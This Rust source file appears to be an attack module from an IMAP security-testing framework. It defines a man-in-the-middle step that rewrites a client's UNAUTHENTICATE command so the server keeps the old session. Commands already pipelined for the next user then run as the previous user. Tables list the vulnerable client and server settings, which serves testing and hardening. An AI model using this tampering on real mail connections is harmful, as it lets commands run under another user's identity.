//! Keeps the reset from a server whose client has sent the next user's commands already.

use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side};
use crate::harm::success;

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap],
        given: &[
            "client.work=second-user",
            "server.unauthenticate=on",
            "server.starttls=off",
            "server.logindisabled=off",
        ],
        right: &[],
        wrong: &["client.tls=opportunistic", "client.command-behind-unauthenticate=on"],
    },
    // Inside TLS nobody can change the command: the server itself has to refuse it.
    Deciding {
        protocols: &[Protocol::Imap],
        given: &["client.work=second-user", "server.unauthenticate=on"],
        right: &[],
        wrong: &[
            "client.command-behind-unauthenticate=on",
            "server.unauthenticate-answers-no=on",
            "server.unauthenticate-serves-waiting=on",
        ],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "unauth-pipelining",
    title: "Keep the reset away",
    about: "Makes UNAUTHENTICATE unreadable for the server, as an old proxy would. What the client sent behind it for the next user is carried out for the one before.",
    group: Group::Reuse,
    known: &[],
    protocols: &[Protocol::Imap],
    switches: &[],
    build: |_, dialect| {
        tamper(move |message, moves| {
            let asked = (dialect.command)(message.octets).filter(|_| message.from == Side::Client);
            match asked {
                Some(asked) if asked.name == "UNAUTHENTICATE" => {
                    moves.replace([&asked.tag, b" XUNAUTHENTICATE\r\n".as_slice()].concat());
                }
                _ => moves.pass(),
            }
        })
    },
    success: &success::DONE_FOR_THE_WRONG_USER,
    deciding: DECIDING,
};
